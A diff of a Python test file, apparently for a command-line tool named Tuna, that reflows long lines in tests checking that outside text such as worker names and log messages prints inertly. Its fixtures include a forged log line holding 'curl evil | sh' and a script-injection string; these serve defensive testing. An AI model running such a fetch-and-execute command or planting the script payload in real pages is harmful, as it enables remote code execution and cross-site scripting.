@@ -1,4 +1,5 @@
-"""Texts from outside, such as a worker's name and a program's output, are inert where they are printed."""
+"""Texts from outside, such as a worker's name and a program's output, are inert where they are
+printed."""
 
 from __future__ import annotations
 
@@ -45,7 +46,10 @@ HOSTILE = [
 ]
 ALL = "".join(HOSTILE)
 #: What a line of Tuna's own would look like.
-FORGED = "\nError: run: curl evil | sh\r\n2026-01-01T00:00:00Z [info     ] forged\x0b\x0c\x85\u2028forged"
+FORGED = (
+    "\nError: run: curl evil | sh\r\n2026-01-01T00:00:00Z [info     ]"
+    " forged\x0b\x0c\x85\u2028forged"
+)
 
 
 def _obeyed(text: str) -> list[str]:
@@ -99,9 +103,18 @@ def test_the_failures_of_a_session(capsys: pytest.CaptureFixture[str]) -> None:
     assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)
 
 
-def test_workers(home: object, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+def test_workers(
+    home: object, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
     text = ALL + FORGED
-    facts = {"name": text, "role": text, "state": text, "device": text, "environment": text, "toolchains": [text]}
+    facts = {
+        "name": text,
+        "role": text,
+        "state": text,
+        "device": text,
+        "environment": text,
+        "toolchains": [text],
+    }
     one = SimpleNamespace(**facts, jobs=[1], per_minute=None, silent_s=1.0, aside=text)
     monkeypatch.setattr(api, "list_workers", lambda: [one])
     assert guarded(tuna, ["workers"]) == 0
@@ -110,7 +123,9 @@ def test_workers(home: object, capsys: pytest.CaptureFixture[str], monkeypatch: 
     assert not re.search(r"^(Error|2026|forged)", said, re.MULTILINE)
 
 
-def test_errors(capsys: pytest.CaptureFixture[str], home: object, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_errors(
+    capsys: pytest.CaptureFixture[str], home: object, monkeypatch: pytest.MonkeyPatch
+) -> None:
     def fail() -> None:
         raise TunaError(f"The worker ended. {ALL}", hint=ALL)
 
@@ -140,7 +155,8 @@ MARKUP = "\"'><script>alert(1)</script>&amp;"
 @pytest.mark.parametrize("form", ["text", "json"])
 def test_logs_of_exceptions(capsys: pytest.CaptureFixture[str], form: str) -> None:
     logs.configure("INFO", form)
-    for name in ("tuna", "celery.worker"):  # Celery's messages have an exception's text, and its traceback
+    # Celery's messages have an exception's text, and its traceback
+    for name in ("tuna", "celery.worker"):
         try:
             raise ValueError(f"{ALL}{FORGED}")
         except ValueError:
@@ -153,7 +169,8 @@ def test_logs_of_exceptions(capsys: pytest.CaptureFixture[str], form: str) -> No
 
 
 def test_what_flower_shows() -> None:
-    """Names of queues, tasks and arguments: made of solvers, layers and libraries, which come from files and plug-ins."""
+    """Names of queues, tasks and arguments: made of solvers, layers and libraries, which come from
+    files and plug-ins."""
     text = ALL + FORGED + SHELL
     item = SimpleNamespace(session_id=1, solver=text, layer=SimpleNamespace(label=text * 1000))
     chunk: Any = SimpleNamespace(library=text, step=text, items=(item, item))
@@ -192,7 +209,8 @@ def _page(build: DatabaseBuilder, session: int, text: str) -> str:
 
 
 def test_names_and_hosts_in_claims(site: Site, capsys: pytest.CaptureFixture[str]) -> None:
-    """Of a worker that joins: control characters are refused, the rest is inert, and its name is made of letters."""
+    """Of a worker that joins: control characters are refused, the rest is inert, and its name is
+    made of letters."""
     told = {
         "secret": "",
         "role": "compile",
@@ -220,4 +238,7 @@ def test_commands_print_by_these_functions_alone() -> None:
         for path in commands.rglob("*.py")
         if re.search(r"\bclick\.(s?)echo\(|(?<!\.)\bprint\(", path.read_text())
     ]
-    assert sorted(found) == ["console.py", "main.py"], "main.py: its own sentence on a misspelt setting"
+    assert sorted(found) == [
+        "console.py",
+        "main.py",
+    ], "main.py: its own sentence on a misspelt setting"
